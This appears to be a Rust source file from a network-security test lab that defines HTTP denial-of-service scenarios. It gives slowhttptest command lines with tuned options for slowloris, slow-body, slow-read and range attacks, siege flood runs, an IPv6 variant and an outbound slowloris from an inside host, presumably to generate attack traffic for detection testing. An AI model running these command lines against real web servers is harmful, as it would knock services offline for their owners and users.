//! Attacks that hold the connections of a web server: slow headers, slow bodies, slow readers; and more requests than it can answer.

use std::time::Duration;

use lab::attacks::{ended_well, run_tool};
use lab::cleanup::work_folder;
use lab::network::{INTERNET, LAN_HOST, LAN_HOST_V6};
use lab::process::run_any;

use crate::scenario::{ATTACKER, ATTACKER_V6, INSIDE, Scenario};

/// How long one attack may take; the tool is then stopped.
const LIMIT: Duration = Duration::from_secs(20);

/// By slowhttptest: name, options.
const SLOW: &[(&str, &str)] = &[
    ("slowloris_200", "-H -c 200 -r 60 -i 4 -l 14 -x 24 -p 3"),
    ("slowloris_60_patient", "-H -c 60 -r 6 -i 3 -l 16 -x 24 -p 3"),
    ("slowloris_400_hasty", "-H -c 400 -r 200 -i 5 -l 12 -x 10 -p 3"),
    ("slow_body_150", "-B -c 150 -r 50 -i 3 -l 14 -s 8192 -x 10 -p 3"),
    ("slow_body_40", "-B -c 40 -r 5 -i 2 -l 15 -s 4096 -x 8 -p 3"),
    ("slow_read_150", "-X -c 150 -r 50 -w 10 -y 20 -n 4 -z 32 -k 3 -l 14 -p 3"),
    ("range_100", "-R -c 100 -r 40 -a 10 -b 3000 -l 10 -p 3"),
];

/// By siege, which asks as fast as it can: name, options.
const SIEGE: &[(&str, &str)] =
    &[("siege_10", "-b -c 10 -t 4S"), ("siege_60", "-b -c 60 -t 4S"), ("siege_200", "-b -c 200 -t 3S")];

/// All of them.
pub fn scenarios() -> Vec<Scenario> {
    let slow = SLOW.iter().map(|&(name, options)| {
        Scenario::attack("http_dos", "slowhttptest", name, ATTACKER, LAN_HOST, move |s| {
            run_tool(s.attacker(), &format!("slowhttptest {options} -u http://{LAN_HOST}/film.bin"), LIMIT)
        })
    });
    let siege = SIEGE.iter().map(|&(name, options)| {
        Scenario::attack("http_dos", "siege", name, ATTACKER, LAN_HOST, move |s| {
            // It puts its settings into the home of whoever runs it.
            let mut siege = s.attacker().words(&format!("siege -q {options} http://{LAN_HOST}/index.html"));
            ended_well("siege", &run_any(siege.env("HOME", work_folder()?), LIMIT)?)
        })
        .headers()
        .loud()
    });
    let others = [
        Scenario::attack("http_dos", "slowhttptest", "slowloris_v6", ATTACKER_V6, LAN_HOST_V6, |s| {
            let line = format!("slowhttptest -H -c 120 -r 40 -i 4 -l 12 -x 24 -p 3 -u http://[{LAN_HOST_V6}]/");
            run_tool(s.attacker(), &line, LIMIT)
        }),
        Scenario::attack("http_dos", "slowhttptest-out", "outbound_slowloris", INSIDE, INTERNET[1], |s| {
            let line = format!("slowhttptest -H -c 120 -r 40 -i 4 -l 12 -x 24 -p 3 -u http://{}/", INTERNET[1]);
            run_tool(s.lan(), &line, LIMIT)
        }),
    ];
    slow.chain(siege).chain(others).collect()
}
